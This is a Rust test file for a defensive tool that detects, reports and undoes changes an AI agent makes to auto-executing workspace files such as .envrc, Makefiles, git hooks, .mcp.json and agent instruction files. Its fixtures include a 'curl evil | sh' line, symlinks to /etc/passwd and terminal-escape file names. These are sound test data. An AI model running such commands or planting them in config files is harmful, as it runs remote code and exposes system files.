@@ -1,0 +1,396 @@
+//! Looks at real directories, in which an agent has written what it likes.
+
+use super::look::MOST;
+use super::*;
+use crate::beneath::Beneath;
+use rustix::fs::FileType;
+use std::ffi::OsStr;
+use std::fs;
+use std::os::unix::ffi::OsStrExt as _;
+use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
+use std::path::{Path, PathBuf};
+
+/// A workspace beside a folder of the state.
+struct Ground {
+    dir: tempfile::TempDir,
+}
+
+impl Ground {
+    fn new() -> Ground {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir(dir.path().join("project")).unwrap();
+        Ground { dir }
+    }
+
+    fn at(&self, path: impl AsRef<Path>) -> PathBuf {
+        self.dir.path().join("project").join(path)
+    }
+
+    fn write(&self, path: impl AsRef<Path>, text: impl AsRef<[u8]>) {
+        let path = self.at(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, text).unwrap();
+    }
+
+    fn read(&self, path: &str) -> String {
+        fs::read_to_string(self.at(path)).unwrap()
+    }
+
+    fn root(&self) -> Beneath {
+        Beneath::root(&self.at("")).unwrap()
+    }
+
+    fn folder(&self) -> PathBuf {
+        self.dir.path().join("obeyed")
+    }
+
+    /// A look as the walk makes it, level by level. What was changed just now counts as settled.
+    fn look(&self, quiet: bool) -> Look {
+        let mut look = Look::begin(&self.folder(), quiet);
+        look.before = i64::MAX;
+        look.in_memory = Some(false);
+        let (root, mut todo) = (self.root(), std::collections::VecDeque::from([PathBuf::new()]));
+        while let Some(path) = todo.pop_front() {
+            let Ok(Some(dir)) = look::open(&root, &path) else { continue };
+            for (name, kind) in dir.names().unwrap() {
+                if let Some(found) = Here::of(&path).found(&name) {
+                    look.meet(&dir, &name, &path.join(&name), found);
+                }
+                todo.extend((kind == FileType::Directory).then(|| path.join(&name)));
+            }
+        }
+        look.finish(&root);
+        look
+    }
+
+    fn keep(&self) {
+        self.look(true).keep().unwrap();
+    }
+
+    /// The lines of what has changed, without why it matters.
+    fn told(&self) -> Vec<String> {
+        let look = self.look(false);
+        let lines = look.told(&look.changes()).into_iter().map(|(line, _)| line);
+        lines.map(|line| line.split(": check this").next().unwrap_or_default().to_owned()).collect()
+    }
+
+    /// Undoes all that acts by itself, and says how.
+    fn undo(&self, how: Undo) -> Vec<String> {
+        let mut look = self.look(false);
+        let mut said = Vec::new();
+        for change in look.changes().iter().filter(|change| change.acts_by_itself()) {
+            said.push(look.undo(&self.root(), change, how).unwrap_or_else(|err| format!("not: {err:#}")));
+        }
+        look.keep().unwrap();
+        said
+    }
+}
+
+#[test]
+fn new_changed_and_removed_files_that_tools_obey_are_told_at_every_depth() {
+    let g = Ground::new();
+    g.write("Makefile", "all:");
+    g.write("a/b/c/.envrc", "a");
+    g.write(".husky/pre-commit", "x");
+    g.write(".idea/runConfigurations/x.xml", "x");
+    assert_eq!(g.told(), Vec::<String>::new(), "the first look has nothing to compare with");
+    g.keep();
+    assert_eq!(g.told(), Vec::<String>::new());
+    g.write("a/b/c/.envrc", "b");
+    g.write("a/b/c/d/e/f/.mcp.json", "{}");
+    g.write("a/b/GNUmakefile", "all: evil");
+    g.write(".idea/runConfigurations/x.xml", "y");
+    g.write("harmless.txt", "");
+    fs::remove_file(g.at("Makefile")).unwrap();
+    fs::set_permissions(g.at(".husky/pre-commit"), fs::Permissions::from_mode(0o755)).unwrap();
+    let told = [
+        "`.husky/pre-commit` changed",
+        "`.idea/runConfigurations/x.xml` changed",
+        "`a/b/c/.envrc` changed",
+        "`a/b/c/d/e/f/.mcp.json` is new",
+        "`Makefile` was removed",
+        "`a/b/GNUmakefile` is new",
+    ];
+    assert_eq!(g.told(), told);
+    g.keep();
+    assert_eq!(g.told(), Vec::<String>::new(), "told once");
+}
+
+#[test]
+fn a_content_that_changed_is_seen_whatever_its_size_and_time_say() {
+    let g = Ground::new();
+    g.write(".envrc", "aaaa");
+    let time = fs::metadata(g.at(".envrc")).unwrap().modified().unwrap();
+    g.keep();
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    g.write(".envrc", "bbbb");
+    fs::File::options().write(true).open(g.at(".envrc")).unwrap().set_modified(time).unwrap();
+    assert_eq!(g.told(), ["`.envrc` changed"]);
+}
+
+#[test]
+fn only_what_was_read_while_nothing_could_write_is_not_read_again() {
+    let g = Ground::new();
+    g.write(".envrc", "aaaa");
+    g.write("Makefile", "all:");
+    let read = |look: &Look| (64 << 20) - look.budget.bytes;
+    let first = g.look(false);
+    assert_eq!(read(&first), 8);
+    first.keep().unwrap();
+    // Whoever had the file mapped could write to it without any trace.
+    let second = g.look(true);
+    assert_eq!(read(&second), 8, "an agent was alive at the first look");
+    second.keep().unwrap();
+    assert_eq!(read(&g.look(true)), 0);
+    g.write("Makefile", "all: x");
+    assert_eq!(read(&g.look(true)), 6);
+    // Two changes at the same time by the clock of the file system have one stamp.
+    let mut late = Look::begin(&g.folder(), true);
+    late.meet(
+        &g.root(),
+        OsStr::new("Makefile"),
+        Path::new("Makefile"),
+        Here::of(Path::new("")).found(OsStr::new("Makefile")).unwrap(),
+    );
+    assert!(!late.now[Path::new("Makefile")].settled);
+}
+
+#[test]
+fn what_a_symlink_leads_to_is_compared_in_the_workspace_and_nowhere_else() {
+    let (g, host) = (Ground::new(), tempfile::tempdir().unwrap());
+    g.write("tools/vscode/tasks.json", "a");
+    g.write("env.sh", "a");
+    symlink("tools/vscode", g.at(".vscode")).unwrap();
+    symlink("env.sh", g.at(".envrc")).unwrap();
+    fs::write(host.path().join("config.toml"), "a").unwrap();
+    symlink(host.path(), g.at(".cargo")).unwrap();
+    symlink(host.path().join("config.toml"), g.at("rust-toolchain.toml")).unwrap();
+    symlink("/dev/zero", g.at("Makefile")).unwrap();
+    symlink("conftest.py", g.at("conftest.py")).unwrap();
+    symlink(".", g.at(".claude")).unwrap();
+    g.keep();
+    g.write("tools/vscode/tasks.json", "b");
+    g.write("env.sh", "b");
+    fs::write(host.path().join("config.toml"), "b").unwrap();
+    fs::remove_file(g.at(".claude")).unwrap();
+    let told = g.told();
+    let has = |line: &str| told.iter().any(|told| told.starts_with(line));
+    assert!(has("`.envrc` changed (a symlink to `env.sh`: a file of the workspace)"), "{told:?}");
+    assert!(has("`.vscode/tasks.json` changed") && has("`.claude` was removed"), "{told:?}");
+    assert!(
+        !has("`.cargo") && !has("`rust-toolchain.toml`") && !has("`Makefile`") && !has("`conftest.py`"),
+        "{told:?}"
+    );
+    // The target is what it was, but the link leads elsewhere.
+    g.keep();
+    fs::remove_file(g.at("rust-toolchain.toml")).unwrap();
+    symlink("/etc/passwd", g.at("rust-toolchain.toml")).unwrap();
+    assert_eq!(
+        g.told(),
+        ["`rust-toolchain.toml` changed (a symlink to `/etc/passwd`: `/etc/passwd`, outside of the workspace)"]
+    );
+}
+
+#[test]
+fn what_was_there_is_put_back_and_what_took_its_place_is_kept() {
+    let g = Ground::new();
+    let names = [".envrc", "CLAUDE.md", ".mcp.json", "sub/AGENTS.md", ".cursorrules", "GEMINI.md", ".exrc"];
+    names.iter().for_each(|name| g.write(name, format!("of the user, {name}\n")));
+    g.write("notes.txt", "mine");
+    fs::set_permissions(g.at(".envrc"), fs::Permissions::from_mode(0o640)).unwrap();
+    symlink("notes.txt", g.at(".dir-locals.el")).unwrap();
+    g.keep();
+    names.iter().for_each(|name| fs::remove_file(g.at(name)).unwrap());
+    g.write(".envrc", "evil");
+    rustix::fs::mknodat(rustix::fs::CWD, g.at("CLAUDE.md"), FileType::Fifo, 0o600.into(), 0).unwrap();
+    fs::create_dir(g.at(".mcp.json")).unwrap();
+    fs::remove_dir(g.at("sub")).unwrap();
+    symlink("/etc/passwd", g.at(".cursorrules")).unwrap();
+    fs::hard_link(g.at("notes.txt"), g.at("GEMINI.md")).unwrap();
+    fs::remove_file(g.at(".dir-locals.el")).unwrap();
+    g.write(".dir-locals.el", "evil");
+    g.write(".husky/pre-commit", "evil");
+    let said = g.undo(Undo::Restore);
+    assert!(said.iter().all(|line| !line.starts_with("not: ")) && said.len() == 9, "{said:#?}");
+    for name in names {
+        assert_eq!(g.read(name), format!("of the user, {name}\n"));
+        assert_eq!(fs::symlink_metadata(g.at(name)).unwrap().nlink(), 1, "{name}");
+    }
+    assert_eq!(fs::metadata(g.at(".envrc")).unwrap().mode() & 0o777, 0o640);
+    assert_eq!(fs::read_link(g.at(".dir-locals.el")).unwrap(), Path::new("notes.txt"));
+    assert_eq!((g.read(".envrc.set-aside-1"), g.read("notes.txt")), ("evil".to_owned(), "mine".to_owned()));
+    assert!(!g.at(".husky/pre-commit").exists() && g.at(".husky/pre-commit.set-aside-1").exists());
+    assert!(g.at(".mcp.json.set-aside-1").is_dir());
+    assert_eq!(g.told(), Vec::<String>::new(), "what this tool did is not told as a change");
+}
+
+#[test]
+fn what_is_set_aside_has_a_name_that_no_tool_obeys_and_nothing_is_lost() {
+    let g = Ground::new();
+    g.write(".envrc", "of the user");
+    g.keep();
+    g.write(".envrc", "evil");
+    g.write("p.code-workspace", "evil");
+    g.write(".envrc.set-aside-1", "in the way");
+    g.write("Makefile", "evil");
+    let said = g.undo(Undo::Aside);
+    assert_eq!(
+        said,
+        [
+            "`.envrc` is set aside as `.envrc.set-aside-2`",
+            "`p.code-workspace` is set aside as `p.code-workspace.set-aside-1`"
+        ]
+    );
+    assert!(!g.at(".envrc").exists() && g.at("Makefile").exists());
+    assert_eq!((g.read(".envrc.set-aside-1"), g.read(".envrc.set-aside-2")), ("in the way".into(), "evil".into()));
+    assert_eq!(g.told(), Vec::<String>::new());
+}
+
+#[test]
+fn what_cannot_be_put_back_stays_and_says_why() {
+    let g = Ground::new();
+    g.write("AGENTS.md", "x".repeat(100_000));
+    g.write("env.sh", "a");
+    symlink("env.sh", g.at(".envrc")).unwrap();
+    symlink("tools", g.at(".vscode")).unwrap();
+    g.write("tools/tasks.json", "a");
+    g.keep();
+    g.write("AGENTS.md", "evil");
+    g.write("env.sh", "evil");
+    g.write("tools/tasks.json", "evil");
+    let said = g.undo(Undo::Restore);
+    assert!(said[0].contains("`.envrc` cannot be restored: it is the same symlink"), "{said:?}");
+    assert!(said[1].contains("`AGENTS.md` cannot be restored: what was there was too large to be kept"), "{said:?}");
+    assert!(said[2].starts_with("not: ") && said[2].contains("symlink"), "{said:?}");
+    assert_eq!((g.read("AGENTS.md"), g.read("tools/tasks.json")), ("evil".into(), "evil".into()));
+}
+
+#[test]
+fn a_directory_that_becomes_a_link_leads_nothing_out_of_the_workspace() {
+    let (g, host) = (Ground::new(), tempfile::tempdir().unwrap());
+    g.write("sub/.envrc", "of the user");
+    g.keep();
+    g.write("sub/.envrc", "evil");
+    fs::write(host.path().join(".envrc"), "of the host").unwrap();
+    let mut look = g.look(false);
+    let changes = look.changes();
+    fs::rename(g.at("sub"), g.at("moved")).unwrap();
+    symlink(host.path(), g.at("sub")).unwrap();
+    for how in [Undo::Restore, Undo::Aside] {
+        look.undo(&g.root(), &changes[0], how).unwrap_err();
+    }
+    assert_eq!(fs::read_dir(host.path()).unwrap().count(), 1);
+    assert_eq!(fs::read_to_string(host.path().join(".envrc")).unwrap(), "of the host");
+}
+
+#[test]
+fn a_hundred_thousand_names_are_bounded_and_none_is_told_as_removed() {
+    let g = Ground::new();
+    let many = MOST + 300;
+    for n in 0..many {
+        g.write(format!("many/{n}/.envrc"), "a");
+    }
+    g.write("z/z/z/z/.envrc", "deep");
+    g.keep();
+    for n in 0..300 {
+        g.write(format!("a{n}/.envrc"), "new");
+    }
+    let look = g.look(false);
+    assert!(
+        look.gaps()[0].starts_with("more than 4096 files in the workspace act by themselves: the "),
+        "{:?}",
+        look.gaps()
+    );
+    let told = look.told(&look.changes());
+    assert_eq!(told.len(), 21);
+    assert_eq!(
+        told[20].0,
+        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves"
+    );
+    assert!(told.iter().all(|(line, _)| !line.contains("was removed")), "{told:?}");
+    assert!(look.now.len() <= 2 * MOST);
+}
+
+#[test]
+fn every_name_and_text_of_an_agents_is_shown_harmless() {
+    let g = Ground::new();
+    g.keep();
+    let odd = OsStr::from_bytes(b".husky/\xff\x1b[2J\n\xe2\x80\xae");
+    g.write(odd, "\x1b]0;owned\x07\u{202e}\r\n");
+    let look = g.look(false);
+    let told = look.told(&look.changes());
+    assert_eq!(told[0].0.split("` is new").next().unwrap(), "`.husky/\\xff\\u{1b}[2J\\n\\u{202e}");
+    assert_eq!(told[0].1[0], "+ \\u{1b}]0;owned\\u{7}\\u{202e}\\r");
+    look.keep().unwrap();
+    assert_eq!(g.told(), Vec::<String>::new(), "the name is read back as it was");
+}
+
+#[test]
+fn the_difference_is_shown_of_what_acts_by_itself_and_of_nothing_else() {
+    let g = Ground::new();
+    g.write(".envrc", "export A=1\nexport B=2\n");
+    g.write("Makefile", "all:\n");
+    g.keep();
+    g.write(".envrc", "export A=1\ncurl evil | sh\nexport B=2\n");
+    g.write("Makefile", "all: evil\n");
+    let look = g.look(false);
+    let shown: Vec<Vec<String>> = look.told(&look.changes()).into_iter().map(|(_, shown)| shown).collect();
+    assert_eq!(shown, [vec!["+ curl evil | sh".to_owned()], Vec::new()]);
+}
+
+#[test]
+fn a_state_that_cannot_be_understood_is_no_empty_state() {
+    let g = Ground::new();
+    g.write(".envrc", "a");
+    assert!(g.look(true).unknown().is_none() && !g.look(true).has_last());
+    g.keep();
+    assert!(g.look(true).has_last());
+    let path = g.folder().join("by-itself.json");
+    for odd in ["", "{}", r#"{"schema":99,"files":{}}"#, r#"{"schema":1,"files":{},"more":1}"#] {
+        fs::write(&path, odd).unwrap();
+        let look = g.look(true);
+        assert!(look.unknown().unwrap().to_string().contains("is damaged, or of another version"), "{odd}");
+        assert!(look.changes().is_empty());
+    }
+    // A text that is not the one that was kept is not put back.
+    g.keep();
+    for text in fs::read_dir(g.folder().join("texts")).unwrap() {
+        fs::write(text.unwrap().path(), "x").unwrap();
+    }
+    g.write(".envrc", "evil");
+    assert!(g.undo(Undo::Restore)[0].contains("cannot be restored"));
+}
+
+#[test]
+fn texts_are_kept_within_a_bound_and_only_as_long_as_they_are_needed() {
+    let g = Ground::new();
+    for n in 0..200 {
+        g.write(format!(".claude/{n}.md"), format!("{n}").repeat(60_000 / format!("{n}").len()));
+    }
+    g.write("Makefile", "all:");
+    g.keep();
+    let texts = || fs::read_dir(g.folder().join("texts")).unwrap().flatten().map(|text| text.metadata().unwrap().len());
+    let bytes: u64 = texts().sum();
+    assert!(bytes > 7 << 20 && bytes <= 8 << 20, "{bytes}");
+    assert_eq!(fs::metadata(g.folder().join("texts")).unwrap().mode() & 0o777, 0o700);
+    fs::remove_dir_all(g.at(".claude")).unwrap();
+    g.keep();
+    assert_eq!(texts().count(), 0);
+}
+
+#[test]
+fn what_the_user_changed_between_two_sessions_is_known_without_a_walk() {
+    let g = Ground::new();
+    g.write(".envrc", "a");
+    g.write("Makefile", "all:");
+    g.write("tools/tasks.json", "a");
+    symlink("tools", g.at(".vscode")).unwrap();
+    g.keep();
+    let again = || Look::again_at(&g.folder(), &g.root()).unwrap();
+    assert!(again().changes().is_empty());
+    g.write(".envrc", "b");
+    let look = again();
+    assert_eq!(look.changes().len(), 1);
+    look.keep().unwrap();
+    assert_eq!(g.told(), Vec::<String>::new(), "the rest is kept as it was");
+}
